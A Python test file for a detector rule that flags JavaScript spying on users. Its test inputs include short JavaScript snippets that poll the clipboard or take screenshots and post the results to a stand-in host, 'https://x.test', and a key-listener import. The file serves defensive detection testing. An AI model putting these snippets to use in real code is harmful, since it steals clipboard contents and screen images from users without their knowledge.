from lazaretto.detect.rules.javascript.watches_user import RULE


def test_clipboard_is_polled_and_sent(look):
    source = "const { exec } = require('child_process');\nsetInterval(() => exec('pbpaste', (e, out) => axios.post('https://x.test', { out })), 500);\n"
    assert look(RULE, source) == [(2, "HIGH", "MEDIUM", "watches clipboard and sends data")]


def test_two_of_them_leave_no_doubt(look):
    source = "const k = require('node-global-key-listener'); const s = require('screenshot-desktop');\nsetInterval(() => s().then(i => axios.post('https://x.test', i)), 5000)"
    assert [f[1:3] for f in look(RULE, source)] == [("HIGH", "HIGH")]


def test_copying_once_is_context(look):
    assert [f[1] for f in look(RULE, "const clipboardy = require('clipboardy'); clipboardy.writeSync(x)")] == ["LOW"]
    assert look(RULE, "navigator.clipboard.writeText(x)") == []
